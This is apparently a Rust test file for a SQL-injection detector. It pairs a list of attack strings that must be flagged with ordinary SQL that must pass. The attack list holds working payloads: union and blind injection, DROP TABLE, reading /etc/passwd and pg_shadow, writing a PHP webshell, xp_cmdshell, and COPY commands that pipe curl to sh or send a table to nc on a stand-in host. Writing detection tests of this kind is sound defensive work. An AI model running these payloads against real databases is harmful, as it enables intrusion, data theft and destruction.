//! Attacks that patterns must name, ordinary SQL that they must leave alone.

use super::*;
use crate::patrols::{TABLE, find};
use serde_json::json;

fn book(patrol: &str) -> Book {
    let spec = find(patrol).unwrap().spec;
    Book::load(spec.kinds, spec.patterns, None).unwrap()
}

fn body(value: serde_json::Value) -> Fields {
    Fields(value.as_object().cloned().unwrap_or_default())
}

fn found(book: &Book, text: &str, kind: &str) -> Vec<Arc<Hit>> {
    let mut normal = Normal::default();
    normal.set(text, 65_536);
    let mut hits = Vec::new();
    book.matches((Kind::Sql, &body(json!({"text": text, "kind": kind}))), Some(&normal), &mut hits);
    hits
}

const ATTACKS: &[(&str, &str, &str)] = &[
    ("param", "1' UNION SELECT NULL,NULL,NULL-- -", "union_injection"),
    (
        "query",
        "SELECT a FROM p WHERE id = '1' UNION SELECT card, cvv FROM pay --'",
        "union_injection",
    ),
    ("param", "1%27/**/uNiOn/**/aLl/**/sElEcT/**/1,2,3#", "union_injection"),
    ("param", "1' /*!50000UNION*/ /*!50000SELECT*/ user, pass from members", "union_injection"),
    ("param", "' or 1=1 --", "tautology"),
    ("query", "SELECT * FROM users WHERE name = '' OR '1'='1' AND pass = ''", "tautology"),
    ("param", "x') or ('a'='a", "tautology"),
    ("param", "1; DROP TABLE users--", "destructive_ddl"),
    ("param", "1; UPDATE users SET role='admin'", "stacked_query"),
    (
        "query",
        "SELECT 1 FROM t WHERE a = 'x'; INSERT INTO admins VALUES ('me') --'",
        "stacked_query",
    ),
    ("param", "admin'--", "comment_probe"),
    ("query", "SELECT * FROM u WHERE n = 'admin' --' AND p = 'x'", "comment_probe"),
    ("param", "1' AND SLEEP(5)#", "time_blind"),
    ("param", "1 and benchmark(5000000,md5(1))", "time_blind"),
    ("param", "'; WAITFOR DELAY '0:0:5'--", "time_blind"),
    ("query", "SELECT 1 FROM t WHERE a = 1 OR (SELECT 1 FROM pg_sleep(5)) = 1", "time_blind"),
    ("param", "1 and extractvalue(1,concat(0x5c,(select version())))", "error_based"),
    ("param", "1' and 2*(case when (1234=1234) then 1 else 0 end)", "boolean_blind"),
    ("param", "1 AND 5732=5732", "boolean_blind"),
    ("param", "'||(SELECT 'x' FROM dual)||'", "boolean_blind"),
    ("param", "1'; exec master..xp_dirtree '//e.example/a'--", "out_of_band"),
    ("query", "SELECT utl_http.request('http://e.example/'||user) FROM dual", "out_of_band"),
    (
        "query",
        "SELECT * FROM dblink('host=203.0.113.9 user=x', 'select 1') AS t(a int)",
        "out_of_band",
    ),
    ("param", "1 union select load_file('/etc/passwd')", "file_read"),
    ("query", "EXEC xp_cmdshell 'whoami'", "command_execution"),
    ("query", "COPY t FROM PROGRAM 'curl http://e.example/x | sh'", "command_execution"),
    ("query", "COPY customers TO PROGRAM 'nc 203.0.113.9 99'", "command_execution"),
    ("param", "1 union select '<?php' into outfile '/var/www/x.php'", "file_write"),
    ("query", "SELECT usename, passwd FROM pg_shadow", "credential_access"),
    ("param", "1 and (select count(*) from information_schema.tables)>1", "schema_enumeration"),
    (
        "query",
        "SELECT a FROM t UNION SELECT table_name FROM information_schema.tables",
        "schema_enumeration",
    ),
    ("query", "SELECT 1 FROM p WHERE id = '7'; COPY customers TO STDOUT; --'", "bulk_export"),
    ("param", "1' ORDER BY 10--", "column_probe"),
];

const ORDINARY: &[(&str, &str)] = &[
    ("query", "SELECT id, name FROM products WHERE category_id = 7 ORDER BY name LIMIT 20"),
    ("query", "SELECT a FROM x UNION ALL SELECT b FROM y ORDER BY 1"),
    ("query", "UPDATE orders SET state = 'paid' WHERE id = $1 AND (owner = $2 OR admin)"),
    ("query", "SELECT * FROM t WHERE 1=1 AND city = 'Oran' OR zip = '10115'"),
    ("query", "SELECT CASE WHEN qty = 0 THEN 'none' ELSE 'some' END FROM stock -- for the report"),
    ("query", "INSERT INTO notes (body) VALUES ('Tom''s union meeting; select committee at 5')"),
    ("query", "BEGIN; UPDATE a SET n = n + 1 WHERE id = 3; COMMIT"),
    ("query", "SELECT 1 /* app:shop,route:/cart */"),
    ("query", "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'"),
    (
        "query",
        "WITH s AS (SELECT row_number() OVER (ORDER BY ts) r FROM e) SELECT * FROM s WHERE r < 9",
    ),
    ("query", "SELECT 'a' || b || 'c' FROM t WHERE x LIKE '%--%'"),
    ("query", "SELECT date_trunc('day', ts), count(*) FROM e GROUP BY 1 HAVING count(*) > 10"),
    ("query", "EXECUTE get_order(17)"),
    ("query", "CREATE TABLE logs (id int, note text DEFAULT 'drop table')"),
    ("param", "O'Brien"),
    ("param", "rock and roll or jazz; 1 + 1 = 2 #music"),
    ("param", "alice+tag@example.org"),
    ("param", "50% off -- today only"),
    ("free_text", "How do I select the union of two sets, or drop a table?"),
    ("free_text", "Please benchmark the sleep (5 hours) and order by phone - or e-mail"),
];

#[test]
fn attacks_are_named() {
    let book = book("sql-guard");
    for (kind, text, category) in ATTACKS {
        let hits = found(&book, text, kind);
        let named = hits.iter().any(|hit| hit.category.as_str() == *category);
        let categories: Vec<_> = hits.iter().map(|hit| hit.category.as_str()).collect();
        assert!(named, "{text}: {categories:?}, expected {category}");
        assert!(hits.iter().any(|hit| hit.level.is_flagged()), "{text}");
        assert!(hits.iter().all(|hit| hit.techniques.iter().all(|t| t.starts_with('T'))));
    }
}

#[test]
fn ordinary_text_is_left_alone() {
    let book = book("sql-guard");
    for (kind, text) in ORDINARY {
        let hits = found(&book, text, kind);
        assert!(
            hits.is_empty(),
            "{text}: {:?}",
            hits.iter().map(|h| &h.reason).collect::<Vec<_>>()
        );
    }
}

#[test]
fn triggers_never_hide_a_match() {
    let mut all = book("sql-guard");
    let waking = book("sql-guard");
    all.always = Mask::MAX;
    let texts = ATTACKS.iter().map(|(k, t, _)| (*k, *t)).chain(ORDINARY.iter().copied());
    for (kind, text) in texts {
        assert_eq!(found(&waking, text, kind), found(&all, text, kind), "{text}");
    }
}

#[test]
fn data_flow_names_what_needs_no_past() {
    let book = book("data-flow");
    let of = |value| {
        let mut hits = Vec::new();
        book.matches((Kind::Data, &body(value)), None, &mut hits);
        hits.first().map(|hit| (hit.level, hit.category.as_str().to_owned()))
    };
    let some = |level, category: &str| Some((level, category.to_owned()));
    assert_eq!(of(json!({"action": "select", "resource": "products", "rows": 3})), None);
    assert_eq!(
        of(json!({"action": "copy_to_program", "resource": "customers"})),
        some(Level::High, "bulk_export")
    );
    let tool = json!({"action": "copy_to", "application": "pg_dump", "resource": "orders"});
    assert_eq!(of(tool), some(Level::Low, "bulk_export"));
    let mut moved = json!({"action": "insert_select", "project": "shop", "target_project": "tmp"});
    assert_eq!(of(moved.clone()), some(Level::Medium, "cross_project"));
    moved["target_project"] = json!("shop");
    assert_eq!(of(moved), None);
}

fn refused(rule: &str) -> String {
    Book::load(&[magsentinel_bus_schema::Kind::Sql], &[("r.yml", rule)], None)
        .err()
        .map_or_else(|| "accepted".to_owned(), |e| e.to_string())
}

const RULE: &str = "title: x\nlogsource: {product: magsentinel, category: sql}\ndetection:\n  \
                    s: {text|contains: abc}\n  condition: s\nlevel: low\ntags: [mag.x]\n";

#[test]
fn what_is_not_understood_is_an_error() {
    assert_eq!(refused(RULE), "accepted");
    for (from, to, reason) in [
        ("category: sql", "category: webserver", "logsource"),
        ("level: low", "level: informational", "level must be"),
        ("mag.x", "other.x", "exactly one tag"),
        ("text|contains", "text|magic", "magic"),
        ("text|contains: abc", "text|re: '(a'", "regex"),
        ("text|contains: abc", "text|re: '(?=a)b'", "look-around"),
        ("text|contains", "text|expand", "not supported"),
        ("text|contains", "label|contains", "annotates"),
        ("condition: s", "condition: other", "other"),
        ("title: x", "title: x\ntimeframe: 5m", "timeframe"),
        ("title: x", "title: x\ntriggers: [Upper]", "triggers"),
        ("title: x", "title: [", "YAML"),
    ] {
        let error = refused(&RULE.replace(from, to));
        assert!(error.contains(reason), "{to}: {error}");
    }
    let chain = "title: c\ncorrelation: {type: event_count, rules: [x], timespan: 1m, \
                 condition: {gte: 3}}\nlevel: low\n";
    assert!(refused(chain).contains("chains"), "{}", refused(chain));
}

#[test]
fn a_directory_adds_rules_and_changes_the_digest() {
    let dir = tempfile::tempdir().unwrap();
    let spec = find("sql-guard").unwrap().spec;
    let load = || Book::load(spec.kinds, spec.patterns, Some(dir.path()));
    std::fs::write(dir.path().join("own.yml"), RULE).unwrap();
    std::fs::write(dir.path().join("notes.txt"), "no rule").unwrap();
    let (own, embedded) = (load().unwrap(), book("sql-guard"));
    assert_eq!(own.len(), embedded.len() + 1);
    assert_ne!(own.digest(), embedded.digest());
    assert!(!found(&own, "xabcx", "query").is_empty());
    std::fs::write(dir.path().join("bad.yml"), "title: only\n").unwrap();
    assert!(load().err().unwrap().to_string().contains("bad.yml"));
}

#[test]
fn every_patrols_rules_load() {
    for entry in TABLE {
        assert!(!book(entry.spec.name).is_empty());
    }
}
